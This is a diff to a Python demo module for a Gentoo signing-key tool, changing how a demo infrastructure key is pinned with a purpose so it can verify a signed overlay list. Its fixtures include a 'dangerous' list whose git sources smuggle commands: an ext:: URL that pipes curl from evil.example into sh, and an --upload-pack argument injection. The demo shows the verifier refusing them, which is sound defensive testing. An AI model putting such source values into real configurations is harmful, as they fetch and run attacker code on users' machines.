@@ -1,9 +1,9 @@
 """Demo scenes for the overlay list: a signed repositories.xml, a tampered one, a signed but dangerous
 one, and the postsync.d hook keeping the verified copy when upstream turns bad.
 
-Self-contained: the scene makes its own infrastructure key, pins it in ``gentoo-infra`` by hand
-(add-seed + import-key), names it the overlay-list key in its own copy of the demo config
-(``[purposes] overlay-list``; Gentoo's default is ``gentoo/snapshot``) and serves the lists from the
+Self-contained: the scene makes its own infrastructure key and pins it in ``gentoo-infra`` by hand
+(``add-seed --purpose overlay-list``, which adds it to ``[purposes] overlay-list`` in the scene's own copy of
+the demo config, + import-key), so add-seed says what the verification then does; the lists come from the
 demo's loopback server.
 """
 
@@ -39,8 +39,9 @@ GOOD = demo_list(("guru", "https://github.com/gentoo/guru.git"),
 DANGEROUS = demo_list(("guru", "https://github.com/gentoo/guru.git"),
                       ("helpful", "ext::sh -c curl% -s% https://evil.example/x|sh"),
                       ("handy", "--upload-pack=touch /tmp/pwned"))
-#: The demo's overlay-list key, in the category the scene verifies with.
-OVERLAY_CONFIG = "[purposes]\noverlay-list = gentoo-infra/infra\n[overlays]\ncategory = gentoo-infra\n"
+#: The scene's config: the overlay list is verified with gentoo-infra, whose mirror key already has the purpose
+#: (Gentoo's default, gentoo/snapshot, names no seed of the demo); ``add-seed --purpose`` adds the infra key.
+OVERLAY_CONFIG = "[purposes]\noverlay-list = gentoo-infra/mirror\n[overlays]\ncategory = gentoo-infra\n"
 
 
 def steps(world: DemoWorld) -> list[Step]:
@@ -73,14 +74,14 @@ def steps(world: DemoWorld) -> list[Step]:
     def overlays(*argv: str) -> list[str]:
         return ["-c", str(config), "verify-overlays", *argv]
 
-    return [
-        Step("pin the infrastructure key that signs the overlay list (category gentoo-infra)",
-             world.gkeys("add-seed", "-C", "gentoo-infra", "-n", "infra", "-N", "Gentoo Infrastructure (demo)",
-                         "-K", infra.fingerprint)),
+    return [  # pinned with its purpose: gentoo-infra has purposes (mirror), and a key without one verifies nothing
+        Step("pin the infrastructure key for the overlay list (--purpose adds it to [purposes] overlay-list)",
+             ["-c", str(config), "add-seed", "-C", "gentoo-infra", "-n", "infra", "-N", "Gentoo Infrastructure (demo)",
+              "-K", infra.fingerprint, "--purpose", "overlay-list"], prepare=write_config),
         Step("import it from a file: accepted because the fingerprint matches",
-             world.gkeys("import-key", "-C", "gentoo-infra", "-n", "infra", "-F", str(work / "infra.asc"))),
-        Step("verify the signed overlay list ([purposes] overlay-list names the key) and install it for "
-             "eselect-repository / layman", overlays(good_url, "-o", str(verified)), prepare=write_config),
+             ["-c", str(config), "import-key", "-C", "gentoo-infra", "-n", "infra", "-F", str(work / "infra.asc")]),
+        Step("verify the signed overlay list with that key and install it for eselect-repository / layman",
+             overlays(good_url, "-o", str(verified))),
         Step("REFUSED: a source URL was changed after the list was signed",
              overlays(tampered_url, "-o", str(verified)), expect=1),
         Step("REFUSED: validly signed, but sources would run commands (ext::, --upload-pack=)",
